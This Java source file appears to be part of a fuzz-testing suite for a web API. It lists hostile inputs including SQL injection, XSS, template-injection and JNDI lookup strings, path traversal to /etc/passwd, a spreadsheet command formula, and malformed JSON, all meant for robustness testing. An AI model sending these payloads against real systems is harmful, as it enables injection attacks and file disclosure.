package org.duban.testing.fuzz;

import java.util.List;
import java.util.Random;

/**
 * Catalogues of hostile input: JSON value fragments (written into a body as raw JSON text, so that they can be what
 * no JSON library would produce: lone surrogates, {@code 1e400}, {@code -0}), strings for path segments and query
 * values, and whole-body corruptions. Each entry is one kind of trouble a real client, a scraper or an attacker sends.
 */
public final class Hostile {
    private Hostile() {}

    /** 100,000 characters: beyond every column, under the 10 MB request limit. */
    static final String HUGE = "长".repeat(50_000) + "x".repeat(50_000);

    /** Strings that are troublesome as text: unicode edge cases, control characters and injection payloads. */
    public static final List<String> STRINGS = List.of(
            "", " ", "\t\n", "\u0000", "a\u0000b", "\u0007\u001b[31mred\u001b[0m", "\u007f", "\u0085\u2028\u2029",
            "\u202Eexe.txt", "a\u200Bb\u200Dc\uFEFF", "😀🇨🇳👨‍👩‍👧", "\uD83D\uDE00", "e\u0301\u0301\u0301", "Ｆｕｌｌ１２３",
            "٣٤٥", "𠀀𪚥", "\uFFFF\uFFFE", "ﷺ", "Z̴̡̛̤͓͇a̶̧͍l̵g̷o̸",
            "' OR 1=1--", "1; DROP TABLE plan;--", "\" OR \"\"=\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://x.example/a}", "{\"$gt\":\"\"}",
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.png", "file:///etc/passwd",
            "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "%s%s%s%n", "%00", "\\u0000", "null", "undefined", "NaN",
            "true", "-1", "0", "9223372036854775808", "1e400", "0x10", "+999999999-12-31", "2026-02-30", "24:00",
            "Q5", "ANNUAL\n", " Q1 ", "q1", "x".repeat(5_000));

    /** Raw JSON values: valid JSON with hostile meaning, and some that are not valid JSON at all. */
    public static final List<String> JSON_VALUES = List.of(
            "null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1e-400", "9223372036854775808",
            "-9223372036854775809", "18446744073709551616", "123456789012345678901234567890", "0.1e1", "2147483648",
            "NaN", "Infinity", "-Infinity", "0x10", "01", "+1", ".5",
            "\"\\uD800\"", "\"\\uDFFF\\uD800\"", "\"a\\uD83Db\"", "\"\\u0000\"", "\"\\u202Eabc\"", "\"\\u200B\"",
            "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2026-13-01\"", "\"2026-02-30\"", "\"2026-04-10T25:00:00Z\"",
            "\"99999-01-01\"", "\"1900-01-00\"", "20260410", "\"P1000000000Y\"",
            "[]", "[null]", "{}", "{\"a\":{}}", "[[[[[[[[[[]]]]]]]]]]", "[1,2,", "{\"x\":", "\"unterminated",
            "'single'", "\"\\x41\"", "\"\\u12\"", "\"ab\\", "\"\\ud800\\udc00\"");

    /** Values for a path segment or query parameter (URL-encoded when sent). */
    public static final List<String> PARAMS = List.of(
            "-1", "0", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e400", "1.5", "NaN", "null",
            "../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "....//....//etc/passwd", "%2e%2e%2f", "/", "\\", "..", ".",
            "' OR 1=1--", "1 OR 1=1", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.example/a}", "\u0000",
            "%00", "\u202E1", "😀", "𠀀", "区发改局", " ", "", "x".repeat(3_000), "1".repeat(400), "true", "[]", "{}",
            "00000000-0000-0000-0000-000000000000", "not-a-uuid", "Q5", "m13", "+999999999-12-31", "2026-02-30", "*",
            "%", "?a=b", "#frag", ";jsessionid=1", "1,2,3", "-id,,", ",", "a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p");

    /** A random entry of {@code values}. */
    static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A JSON value fragment; now and then a huge string or a deep nesting. */
    static String jsonValue(Random random) {
        int roll = random.nextInt(100);
        if (roll < 4) {
            return "\"" + HUGE + "\"";
        }
        if (roll < 7) {
            int depth = random.nextBoolean() ? 600 : 5_000;
            return "[".repeat(depth) + "]".repeat(depth);
        }
        if (roll < 9) {
            int depth = 2_000;
            return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
        }
        if (roll < 45) {
            return Json.quote(pick(random, STRINGS));
        }
        return pick(random, JSON_VALUES);
    }
}
